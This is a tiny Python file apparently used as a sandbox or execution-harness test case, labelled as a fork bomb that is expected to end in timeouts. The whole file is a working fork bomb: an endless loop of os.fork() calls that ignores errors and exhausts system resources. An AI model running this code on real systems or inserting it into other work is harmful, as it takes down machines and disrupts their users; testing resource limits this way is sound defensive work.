# kind: fork bomb
# wants: timeout timeout timeout
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
